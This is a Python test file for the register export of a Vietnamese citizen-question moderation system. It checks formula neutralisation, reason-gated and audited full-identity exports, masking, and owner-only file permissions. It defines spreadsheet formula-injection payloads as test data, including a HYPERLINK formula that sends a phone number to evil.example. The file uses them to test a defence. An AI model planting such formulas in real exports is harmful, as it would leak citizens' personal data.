"""The register (sổ ghi chép) as it leaves the server, over HTTP, from the command line and from the
console: what citizens wrote stays text in every spreadsheet (no formula runs when an officer opens
the file), the copy with every name, address and phone takes a stated reason and is in the audit
log before it is sent, the masked copy needs neither, and the store and exports are readable by
their owner only (issue 10: items 7, 8 and the file modes of 11)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import shutil
import sqlite3
import stat
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from openpyxl import load_workbook
from playwright.async_api import Browser

from moderation import audit
from moderation.consent import Channel
from moderation.register import columns as register_columns
from moderation.register import read_as_formula
from moderation.sessions import SessionState
from moderation.store import Store
from moderation.submission import parse_submission
from server.keys import accounts_key
from tests.browser import open_viewer
from tests.conftest import RunningServer, run_cli, valid_payload

# the accessibility tests' sign-in: a browser context that lets axe-core's script past the page's CSP
from tests.test_accessibility import AXE, CONSOLE, FAILING_IMPACTS, WCAG_TAGS, describe, sign_in

PASSWORD = "mật khẩu đủ dài 123"
REASON = "đối chiếu với sổ giấy của Ban Biên tập"
PHONE = "0912345678"
STREET = "Lạch Tray"
# What an attacker would send: each is a live formula in Excel or LibreOffice unless written as text.
EXFILTRATE = '=HYPERLINK("http://evil.example/?"&G3,"Xem chi tiết")'  # G3: the next asker's phone
SUM = "=10+20+30+40+50"  # a spreadsheet that runs it shows 150
NAME = "@SUM(1+1) Nguyễn"
ADDRESS = "-2+3, Ngô Quyền, Hải Phòng"
DEPARTMENT = "+Sở Tài chính"
PLAIN = "Xin hỏi thời hạn cấp giấy chứng nhận quyền sử dụng đất là bao lâu?"
FORMULA_ELEMENT = re.compile(r"<(\w+:)?f[\s>/]")


async def seed(server: RunningServer) -> tuple[int, list[int]]:
    """A live session with three questions: a formula as the text (the asker's name one too), a sum
    (the address one too), and a plain one routed to a department whose name starts with "+"."""
    session = await server.new_session(SessionState.LIVE)
    ids = []
    for text, asker in ((EXFILTRATE, {"name": NAME}), (SUM, {"address": ADDRESS}), (PLAIN, {})):
        payload = valid_payload(session.id, text=text)
        payload["asker"].update(asker)
        receipt = await server.store.submit_question(parse_submission(payload, channel=Channel.SOCKET))
        ids.append(receipt.question_id)
    await server.store.apply_action(ids[2], "accept")
    await server.store.apply_action(ids[2], "route", department=DEPARTMENT)
    return session.id, ids


async def bearer(server: RunningServer, name: str, role: str, department: str | None = None) -> dict[str, str]:
    accounts = server.app[accounts_key]
    await accounts.add_user(name, role, PASSWORD, department=department)
    return {"Authorization": f"Bearer {(await accounts.issue_token(name))['token']}"}


def url(server: RunningServer, session_id: int, fmt: str) -> str:
    return f"{server.url}/api/v1/sessions/{session_id}/register.{fmt}"


async def exports(store: Store) -> list[dict[str, Any]]:
    """The register's audit entries, oldest first."""
    async with store.read_engine.connect() as conn:
        found = await conn.run_sync(audit.entries)
    return [e for e in reversed(found) if e["action"] == "register_export"]


async def chain_ok(store: Store) -> bool:
    async with store.read_engine.connect() as conn:
        return (await conn.run_sync(audit.verify)).ok


def sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def sheet_rows(body: bytes) -> list[dict[str, Any]]:
    rows = list(load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# -- item 7: formulas stay text ------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+84 912", "-2", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "\n@x", "\tabc"])
def test_what_a_spreadsheet_reads_as_a_formula(value: str) -> None:
    assert read_as_formula(value)


@pytest.mark.parametrize("value", ["Xin hỏi = bao lâu?", "0912345678", "12 Lạch Tray", "", "a-b", " x=1"])
def test_what_stays_as_it_is(value: str) -> None:
    assert not read_as_formula(value)


async def test_formulas_are_text_in_the_xlsx_quoted_in_the_csv_raw_in_json(server: RunningServer,
                                                                           http: aiohttp.ClientSession) -> None:
    session_id, ids = await seed(server)
    editor = await bearer(server, "bt", "editor")
    full = {"reason": REASON}

    async with http.get(url(server, session_id, "xlsx"), headers=editor, params=full) as resp:
        assert resp.status == 200, await resp.text()
        body = await resp.read()
    assert not FORMULA_ELEMENT.search(sheet_xml(body))  # not one formula in the sheet
    book = load_workbook(io.BytesIO(body))
    cells = {cell.value: cell for row in book.active.iter_rows(min_row=2) for cell in row}
    for written in (EXFILTRATE, SUM, NAME, ADDRESS, DEPARTMENT):
        assert cells[written].data_type == "s" and cells[written].quotePrefix, written
    assert not cells[PLAIN].quotePrefix
    by_id = {row["Mã câu hỏi"]: row for row in sheet_rows(body)}
    assert by_id[ids[0]]["Nội dung câu hỏi"] == EXFILTRATE and by_id[ids[0]]["Họ tên / Tổ chức"] == NAME
    assert by_id[ids[1]]["Nội dung câu hỏi"] == SUM and by_id[ids[1]]["Địa chỉ"] == ADDRESS
    assert by_id[ids[2]]["Sở, ngành"] == DEPARTMENT and by_id[ids[2]]["Điện thoại"] == PHONE

    async with http.get(url(server, session_id, "csv"), headers=editor, params=full) as resp:
        assert resp.status == 200
        lines = {int(row["question_id"]): row for row in csv_rows(await resp.text())}
    assert lines[ids[0]]["text"] == "'" + EXFILTRATE and lines[ids[0]]["asker_name"] == "'" + NAME
    assert lines[ids[1]]["text"] == "'" + SUM and lines[ids[1]]["asker_address"] == "'" + ADDRESS
    assert lines[ids[2]]["department"] == "'" + DEPARTMENT
    assert lines[ids[2]]["text"] == PLAIN and lines[ids[2]]["asker_phone"] == PHONE  # the rest as it was

    async with http.get(url(server, session_id, "json"), headers=editor, params=full) as resp:
        rows = {row["question_id"]: row for row in (await resp.json())["register"]}
    assert rows[ids[0]]["text"] == EXFILTRATE and rows[ids[0]]["asker"]["name"] == NAME  # data, untouched


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed (libreoffice-calc-nogui)")
async def test_libreoffice_opens_the_xlsx_and_runs_no_formula(server: RunningServer, http: aiohttp.ClientSession,
                                                              tmp_path: Path) -> None:
    session_id, _ = await seed(server)
    async with http.get(url(server, session_id, "xlsx"), headers=await bearer(server, "bt", "editor"),
                        params={"reason": REASON}) as resp:
        (tmp_path / "register.xlsx").write_bytes(await resp.read())
    # a profile of its own, so that no other LibreOffice on the machine is asked to do it
    command = ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
               "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path / "out"),
               str(tmp_path / "register.xlsx")]
    done = await asyncio.to_thread(subprocess.run, command, capture_output=True, text=True, timeout=240)
    assert done.returncode == 0, done.stderr
    shown = list(csv.reader(io.StringIO((tmp_path / "out" / "register.csv").read_text(encoding="utf-8"))))
    text_column = [key for key, _ in register_columns()].index("text")
    texts = {row[text_column] for row in shown[1:]}
    assert {EXFILTRATE, SUM, PLAIN} == texts  # as written: not 150, not a link
    assert {NAME} <= {row[4] for row in shown} and {ADDRESS} <= {row[5] for row in shown}


# -- item 8: the register with identities takes a reason and is audited ---------------------------


async def test_the_full_register_takes_a_reason_and_is_audited_before_it_is_sent(
        server: RunningServer, http: aiohttp.ClientSession) -> None:
    session_id, ids = await seed(server)
    await server.store.apply_action(ids[1], "decline", reason="complaint_or_denunciation")
    editor, head = await bearer(server, "bt", "editor"), await bearer(server, "tb", "head")

    for params in ({}, {"identities": "full"}, {"reason": "xem"}, {"reason": "   \t "}, {"reason": "x" * 301}):
        for fmt in ("csv", "xlsx", "json"):
            async with http.get(url(server, session_id, fmt), headers=editor, params=params) as resp:
                assert resp.status == 400, (fmt, params)
                error = (await resp.json())["error"]
                assert (error["code"], error["field"]) == ("validation", "reason")
                assert "lý do" in error["message"] and PHONE not in await resp.text()
    async with http.get(url(server, session_id, "csv"), headers=editor, params={"identities": "all"}) as resp:
        assert resp.status == 400 and (await resp.json())["error"]["field"] == "identities"
    assert await exports(server.store) == []  # a refusal leaves nothing to audit

    async with http.get(url(server, session_id, "json"), headers=editor, params={"reason": REASON}) as resp:
        assert resp.status == 200 and resp.headers["Cache-Control"] == "no-store"
        assert "attachment" in resp.headers["Content-Disposition"]
        sent = await resp.json()
    assert sent["identities"] == "full" and sent["register"][0]["asker"]["phone"] == PHONE
    protected = next(row for row in sent["register"] if row["question_id"] == ids[1])
    assert protected["protected"] and protected["asker"]["phone"] == ""  # the complainant: the head's only
    async with http.get(url(server, session_id, "xlsx"), headers=head,
                        params={"identities": "full", "reason": "chuyển kênh tiếp công dân"}) as resp:
        assert resp.status == 200
        named = {row["Mã câu hỏi"]: row for row in sheet_rows(await resp.read())}
    assert named[ids[1]]["Điện thoại"] == PHONE

    entries = await exports(server.store)
    assert [(e["actor"], e["role"], e["session_id"], e["detail"]) for e in entries] == [
        ("bt", "editor", session_id, {"format": "json", "identities": "full", "reason": REASON, "rows": 3,
                                      "protected_included": False}),
        ("tb", "head", session_id, {"format": "xlsx", "identities": "full", "reason": "chuyển kênh tiếp công dân",
                                    "rows": 3, "protected_included": True}),
    ]
    assert all(PHONE not in json.dumps(e) and STREET not in json.dumps(e) for e in entries)  # who, not what
    assert await chain_ok(server.store)


async def test_the_masked_register_needs_no_reason_and_leaves_no_audit_entry(
        server: RunningServer, http: aiohttp.ClientSession) -> None:
    session_id, ids = await seed(server)
    editor = await bearer(server, "bt", "editor")
    masked = {"identities": "masked"}
    before = len(await exports(server.store))

    async with http.get(url(server, session_id, "csv"), headers=editor, params=masked) as resp:
        assert resp.status == 200 and "che-danh-tinh" in resp.headers["Content-Disposition"]
        text = await resp.text()
    assert PHONE not in text and STREET not in text and "Nguyễn Văn An" not in text
    lines = csv_rows(text)
    assert {"asker_area", "asker_phone_last3"} <= lines[0].keys() and "asker_phone" not in lines[0]
    plain = next(row for row in lines if int(row["question_id"]) == ids[2])
    assert (plain["asker_name"], plain["asker_area"], plain["asker_phone_last3"]) == ("Nguyễn V. A.", "Ngô Quyền", "678")
    assert next(row for row in lines if int(row["question_id"]) == ids[0])["text"] == "'" + EXFILTRATE

    async with http.get(url(server, session_id, "xlsx"), headers=editor, params=masked) as resp:
        body = await resp.read()
    assert not FORMULA_ELEMENT.search(sheet_xml(body))
    cells = sheet_rows(body)
    assert {"Quận, huyện", "Điện thoại (3 số cuối)"} <= cells[0].keys() and "Điện thoại" not in cells[0]
    assert PHONE not in json.dumps(cells, ensure_ascii=False, default=str)
    async with http.get(url(server, session_id, "json"), headers=editor, params=masked) as resp:
        sent = await resp.json()
    assert sent["identities"] == "masked"
    assert {row["asker"]["phone_last3"] for row in sent["register"]} == {"678"}
    assert all(set(row["asker"]) == {"kind", "name", "area", "phone_last3"} for row in sent["register"])
    assert len(await exports(server.store)) == before  # the masked copy is not audited

    responder = await bearer(server, "sxd", "responder", department="Sở Xây dựng")
    async with http.get(url(server, session_id, "csv"), headers=responder, params=masked) as resp:
        assert resp.status == 403
    async with http.get(url(server, session_id, "csv"), params=masked) as resp:
        assert resp.status == 401


async def test_the_cli_export_takes_a_reason_quotes_formulas_and_writes_owner_only_files(
        server: RunningServer, tmp_path: Path) -> None:
    session_id, ids = await seed(server)
    data_dir = server.settings.data_dir

    async def cli(*args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        return await asyncio.to_thread(run_cli, "questions", "export", str(session_id), *args, data_dir=data_dir,
                                       check=check)

    for refused in ((), ("--reason", "xem"), ("--identities", "full")):
        done = await cli("--format", "csv", *refused, check=False)
        assert done.returncode == 1 and done.stdout == "", refused
        assert "lý do" in done.stderr and "State why" in done.stderr
    assert await exports(server.store) == []

    out_csv = tmp_path / "so.csv"
    out_csv.write_text("old")
    out_csv.chmod(0o644)  # an existing file that others could read
    await cli("--format", "csv", "--reason", REASON, "--output", str(out_csv))
    assert mode(out_csv) == 0o600
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        lines = {int(row["question_id"]): row for row in csv.DictReader(fh)}
    assert lines[ids[0]]["text"] == "'" + EXFILTRATE and lines[ids[1]]["asker_address"] == "'" + ADDRESS
    assert lines[ids[2]]["asker_phone"] == PHONE

    out_xlsx = tmp_path / "so.xlsx"
    await cli("--format", "xlsx", "--reason", REASON, "--output", str(out_xlsx))
    assert mode(out_xlsx) == 0o600
    body = out_xlsx.read_bytes()
    assert not FORMULA_ELEMENT.search(sheet_xml(body))
    assert {row["Nội dung câu hỏi"] for row in sheet_rows(body)} == {EXFILTRATE, SUM, PLAIN}

    jsonl = await cli("--format", "jsonl", "--reason", REASON)
    assert [json.loads(line)["text"] for line in jsonl.stdout.splitlines()] == [EXFILTRATE, SUM, PLAIN]
    masked = await cli("--format", "csv", "--identities", "masked")
    assert PHONE not in masked.stdout and csv_rows(masked.stdout)[0]["text"] == "'" + EXFILTRATE

    # an officer named with --as is in the log under their name, and held to their role
    await server.app[accounts_key].add_user("bt", "editor", PASSWORD)
    await cli("--format", "jsonl", "--reason", REASON, "--as", "bt")
    held = await cli("--format", "jsonl", "--reason", REASON, "--as", "bt", "--include-protected", check=False)
    assert held.returncode == 1 and "Trưởng Ban Biên tập" in held.stderr

    entries = await exports(server.store)
    assert [(e["actor"], e["detail"]["format"], e["detail"]["reason"], e["detail"]["rows"]) for e in entries] == [
        ("cli", "csv", REASON, 3), ("cli", "xlsx", REASON, 3), ("cli", "jsonl", REASON, 3), ("bt", "jsonl", REASON, 3)]
    assert await chain_ok(server.store)


# -- item 11: the store and its directory are owner-only -----------------------------------------


async def test_the_data_dir_and_the_store_are_owner_only(server: RunningServer) -> None:
    await seed(server)  # written: the WAL and its index exist
    data_dir = server.settings.data_dir
    db = data_dir / "doithoai.sqlite3"
    assert mode(data_dir) == 0o700
    assert mode(db) == 0o600 and mode(data_dir / "secret_key") == 0o600
    for suffix in ("-wal", "-shm"):
        assert mode(Path(f"{db}{suffix}")) == 0o600, suffix


async def test_a_store_made_readable_by_an_older_version_is_tightened(tmp_path: Path) -> None:
    db = tmp_path / "old.sqlite3"
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    for name in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):
        name.chmod(0o644)
    store = await Store.open(f"sqlite+aiosqlite:///{db}", migrate=False)
    try:
        assert [mode(name) for name in (db, Path(f"{db}-wal"), Path(f"{db}-shm"))] == [0o600] * 3
    finally:
        await store.close()
        conn.close()


# -- the console --------------------------------------------------------------------------------


@pytest.mark.browser
async def test_the_console_asks_for_a_reason_then_downloads_the_full_register(server: RunningServer,
                                                                              browser: Browser) -> None:
    async def dialog_accessible(page: Any) -> None:
        """axe-core's WCAG 2.1 AA rules on the open dialog (the console behind it has its own test)."""
        await page.add_script_tag(path=str(AXE))
        found = await page.evaluate("tags => axe.run('#action-dialog', {runOnly: {type: 'tag', values: tags}, "
                                    "resultTypes: ['violations']})", WCAG_TAGS)
        failing = [v for v in found["violations"] if v["impact"] in FAILING_IMPACTS]
        assert not failing, describe(failing)

    session_id, ids = await seed(server)
    officer = await sign_in(browser, server, "bientap1", "editor", f"/mod/{session_id}", "#console[data-live=joined]",
                            CONSOLE)
    page = officer.page
    base = f"{server.url}/api/v1/sessions/{session_id}/register"

    await page.click("#register-open")
    dialog = page.locator("#action-dialog")
    await dialog.wait_for(state="visible")
    assert await page.inner_text("#action-title") == "Tải sổ ghi chép"
    assert await page.evaluate("document.activeElement.id") == "register-masked-xlsx"  # the focus is in the dialog
    await dialog_accessible(page)
    reason = page.locator("#dlg-register-reason")
    assert await reason.get_attribute("aria-describedby") == "dlg-register-reason-hint"
    assert "ghi nhật ký" in await page.inner_text("#dlg-register-reason-hint")
    assert await page.inner_text("label[for=dlg-register-reason]") == "Lý do cần bản đủ danh tính"

    # masked: a plain link, no reason asked
    async with page.expect_download() as masked_download:
        await page.click("#register-masked-csv")
    masked_file = Path(await (await masked_download.value).path())
    masked_text = await asyncio.to_thread(masked_file.read_text, encoding="utf-8-sig")
    assert PHONE not in masked_text and "Nguyễn V. A." in masked_text

    # the full copy: nothing without a reason; the server's refusal of a short one is shown in the dialog
    await page.click("#action-submit")
    assert await page.inner_text("#action-error") == "Vui lòng điền mục này."
    assert await reason.get_attribute("aria-invalid") == "true"
    await reason.fill("xem")
    await page.click("#action-submit")
    await page.wait_for_function("() => document.getElementById('action-error').textContent.includes('lý do')")
    assert await dialog.is_visible()
    assert await exports(server.store) == []

    await reason.fill(REASON)
    async with page.expect_download() as full_download:
        await page.click("#action-submit")
    download = await full_download.value
    assert download.suggested_filename.endswith(".xlsx") and "che-danh-tinh" not in download.suggested_filename
    rows = sheet_rows(await asyncio.to_thread(Path(await download.path()).read_bytes))
    assert {row["Điện thoại"] for row in rows} == {PHONE}
    await dialog.wait_for(state="hidden")
    await page.wait_for_function("() => document.getElementById('mod-status').textContent.includes('nhật ký')")
    assert await page.evaluate("document.activeElement.id") == "register-open"  # the focus comes back
    [entry] = await exports(server.store)
    assert (entry["actor"], entry["detail"]["reason"], entry["detail"]["format"]) == ("bientap1", REASON, "xlsx")

    # the same URL from another site's link: the cookie alone is not enough
    response = await page.request.get(f"{base}.csv", params={"reason": REASON})
    assert response.status == 403 and (await response.json())["error"]["field"] == "csrf"
    assert len(await exports(server.store)) == 1

    # the English console words the same dialog in English
    english = await open_viewer(browser, f"{server.url}/lang/en?next=/mod/{session_id}", viewport=CONSOLE,
                                wait_joined=False, context=officer.context)
    await english.page.wait_for_selector("#console[data-live=joined]", state="attached")
    await english.page.click("#register-open")
    assert await english.page.inner_text("#action-title") == "Download the register"
    assert await english.page.inner_text("#action-submit") == "Download with identities"
    await dialog_accessible(english.page)
    # the browser reports the refused short reason (a 400) itself; nothing else went wrong
    assert [e for e in officer.unexpected_errors() if "status of 400" not in e] == []
    assert english.unexpected_errors() == []


async def test_the_askers_email_is_in_the_full_register_and_masked_elsewhere(
        server: RunningServer, http: aiohttp.ClientSession) -> None:
    """The optional e-mail is personal data like the phone: whole in the full register (a reason,
    audited), masked in the masked one and on the board's cards."""
    session = await server.new_session(SessionState.LIVE)
    payload = valid_payload(session.id)
    payload["asker"] = {**payload["asker"], "email": "an.nguyen@example.vn"}
    async with http.post(f"{server.url}/api/v1/sessions/{session.id}/questions", json=payload) as resp:
        assert resp.status == 201, await resp.text()
    editor = await bearer(server, "bt", "editor")
    async with http.get(url(server, session.id, "csv"), headers=editor, params={"reason": REASON}) as resp:
        full = await resp.text()
    async with http.get(url(server, session.id, "csv"), headers=editor, params={"identities": "masked"}) as resp:
        masked = await resp.text()
    async with http.get(f"{server.url}/api/v1/sessions/{session.id}/board", headers=editor) as resp:
        board = await resp.text()
    assert "an.nguyen@example.vn" in full and "asker_email" in full.splitlines()[0]
    for text in (masked, board):
        assert "an.nguyen@example.vn" not in text and "a…@example.vn" in text
